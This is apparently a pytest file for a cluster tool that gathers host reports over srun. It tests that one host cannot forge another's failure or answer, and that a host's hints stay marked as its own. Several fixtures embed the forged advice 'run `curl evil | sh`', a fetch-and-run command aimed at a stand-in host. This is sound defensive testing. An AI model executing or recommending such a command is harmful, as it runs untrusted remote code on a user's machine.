"""Lines of srun: the label that srun writes before a line decides whose line it is."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING

import pytest

from hccl_tools.gathering import coordinator, failures, over_srun
from hccl_tools.gathering.failures import GatheringError
from hccl_tools.gathering.messages import SurveyAnswer
from hccl_tools.gathering.options import GatherOptions
from hccl_tools.host.observation import ObservationRequest
from hccl_tools.host.survey import SurveyRequest

if TYPE_CHECKING:
    from pathlib import Path

    from hccl_tools.gathering.engine_run import EngineOutcome

#: What h1 prints: a false failure of h2, or a false answer.
_FORGED_FAILURE = "h2: error: Permission denied, run `curl evil | sh`"
_FORGED_ANSWER = '1: hccl-tools-gather h2 1/1 {"host": "h2", "message": "forged"}'


def options(folder: Path, printed: str) -> GatherOptions:
    """Make an srun that prints a text and fails."""
    (folder / "text").write_text(printed, newline="")
    srun = folder / "srun"
    srun.write_text(f"#!/bin/sh\ncat {shlex.quote(str(folder / 'text'))}\nexit 1\n")
    srun.chmod(0o755)
    environ = {"PATH": f"{folder}:/usr/bin:/bin", "SLURM_JOB_ID": "1", "SLURM_JOB_NODELIST": "h[1-2]"}
    return GatherOptions("slurm", environ=environ)


def survey(folder: Path, printed: str) -> EngineOutcome:
    how = options(folder, printed)
    return over_srun.survey(["h1", "h2"], {"h1": 0, "h2": 1}, SurveyRequest(), how, 60)


def test_the_failure_of_a_host_is_told_by_srun_or_by_its_own_process(tmp_path: Path) -> None:
    told = survey(tmp_path, "srun: error: h2: task 1: Exited with exit code 7\n1: h2: no driver\n")

    assert [(one.host, one.message) for one in told.causes] == [
        ("h2", "srun: error: h2: task 1: Exited with exit code 7; h2: no driver"),
        ("h1", "it ended without an answer"),
    ]


@pytest.mark.parametrize("forged", [_FORGED_FAILURE, _FORGED_ANSWER])
@pytest.mark.parametrize(
    "before",
    [
        pytest.param("0: ", id="a line"),
        pytest.param("0: x\r", id="after a carriage return"),
        pytest.param("0: " + "x" * 8189, id="in the rest of a long line"),
    ],
)
def test_a_host_does_not_speak_for_another(tmp_path: Path, before: str, forged: str) -> None:
    told = survey(tmp_path, f"{before}{forged}\n")

    assert "h2" not in told.answers
    assert "h2" not in [one.host for one in told.causes]


def test_the_reason_of_a_host_is_one_line_of_the_list(tmp_path: Path) -> None:
    reason = f"no device\n  {_FORGED_FAILURE}\n    help: run `curl evil | sh`"
    printed = [answer(0, reason), answer(1, "own")]

    with pytest.raises(GatheringError) as refused:
        coordinator.survey_hosts(["h1", "h2"], SurveyRequest(), options(tmp_path, "".join(printed)))

    _, first, second = refused.value.message.split("\n")
    assert first.startswith("  h1: no device; h2: error:")
    assert second == "  h2: own"


def answer(number: int, message: str, hint: str | None = None) -> str:
    text = SurveyAnswer("", message=message, hint=hint).to_json()
    return f"{number}: hccl-tools-gather h{number + 1} 1/1 {text}\n"


def test_what_a_host_advises_is_not_a_help_line(tmp_path: Path) -> None:
    known = failures.HCCL_TOOLS_MISSING_HINT
    printed = answer(0, "no driver", "run `curl evil | sh`\n    help: now") + answer(1, "no tools", known)

    with pytest.raises(GatheringError) as refused:
        coordinator.survey_hosts(["h1", "h2"], SurveyRequest(), options(tmp_path, printed))

    assert refused.value.message.split("\n")[1:] == [
        "  h1: no driver",
        "    h1 says: run `curl evil | sh`; help: now",
        "  h2: no tools",
        f"    help: {known}",
    ]


def test_a_host_cannot_make_its_advice_this_host_s(tmp_path: Path) -> None:
    text = '{"form": 1, "message": "m", "hint": "h", "refusal_hint": "run `curl evil | sh`"}'
    told = coordinator.observe_hosts(
        ["h1", "h2"],
        ObservationRequest(),
        options(tmp_path, f"0: hccl-tools-gather h1 1/1 {text}\n{answer(1, 'm')}"),
    )

    assert told.left_out == [
        failures.Failure("h1", "m", advice="h", answered=True),
        failures.Failure("h2", "m", answered=True),
    ]
